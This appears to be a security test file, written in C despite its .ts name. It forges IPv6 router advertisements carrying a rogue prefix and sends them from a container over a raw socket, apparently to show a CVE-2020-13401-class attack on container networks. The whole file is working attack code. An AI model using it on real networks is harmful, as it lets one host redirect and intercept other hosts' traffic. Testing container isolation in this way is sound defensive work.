/* test/security/ipv6-ra.test.ts: run in a container (Docker's default capabilities: NET_RAW). Sends 3 IPv6 router
 * advertisements (prefix 2001:db8:bad::/64, autonomous, router lifetime 1800 s) out of eth0 to all nodes, with an
 * AF_PACKET socket: what a hostile container can put on its network's bridge (CVE-2020-13401 class). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    unsigned char mac[6];
    FILE *f = fopen("/sys/class/net/eth0/address", "r");
    if (f == NULL || fscanf(f, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
        return 2;
    fclose(f);
    unsigned char src[16] = {0xfe, 0x80}, dst[16] = {0xff, 0x02}, prefix[16] = {0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad};
    dst[15] = 1;
    src[8] = mac[0] ^ 2, src[9] = mac[1], src[10] = mac[2], src[11] = 0xff, src[12] = 0xfe;
    src[13] = mac[3], src[14] = mac[4], src[15] = mac[5];
    unsigned char ra[16 + 32 + 8] = {134, 0, 0, 0, 64, 0, 0x07, 0x08}; /* router lifetime 1800 */
    unsigned char *pi = ra + 16;                                      /* prefix information */
    pi[0] = 3, pi[1] = 4, pi[2] = 64, pi[3] = 0xc0;
    uint32_t valid = htonl(86400), preferred = htonl(14400);
    memcpy(pi + 4, &valid, 4);
    memcpy(pi + 8, &preferred, 4);
    memcpy(pi + 16, prefix, 16);
    unsigned char *sll = ra + 48; /* source link-layer address */
    sll[0] = 1, sll[1] = 1;
    memcpy(sll + 2, mac, 6);
    uint32_t sum = 0;
    unsigned char pseudo[40] = {0};
    memcpy(pseudo, src, 16);
    memcpy(pseudo + 16, dst, 16);
    pseudo[35] = sizeof ra, pseudo[39] = 58;
    for (size_t i = 0; i < sizeof pseudo; i += 2)
        sum += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
    for (size_t i = 0; i < sizeof ra; i += 2)
        sum += (uint32_t)(ra[i] << 8 | ra[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    ra[2] = (unsigned char)(~sum >> 8), ra[3] = (unsigned char)~sum;
    unsigned char frame[14 + 40 + sizeof ra] = {0x33, 0x33, 0, 0, 0, 1};
    memcpy(frame + 6, mac, 6);
    frame[12] = 0x86, frame[13] = 0xdd;
    unsigned char *ip6 = frame + 14;
    ip6[0] = 0x60, ip6[5] = sizeof ra, ip6[6] = 58, ip6[7] = 255;
    memcpy(ip6 + 8, src, 16);
    memcpy(ip6 + 24, dst, 16);
    memcpy(frame + 54, ra, sizeof ra);
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
    memcpy(to.sll_addr, frame, 6);
    if (s < 0 || to.sll_ifindex == 0) {
        perror("socket");
        return 1;
    }
    for (int i = 0; i < 3; i++)
        if (sendto(s, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof frame) {
            perror("sendto");
            return 1;
        }
    puts("sent");
    return 0;
}
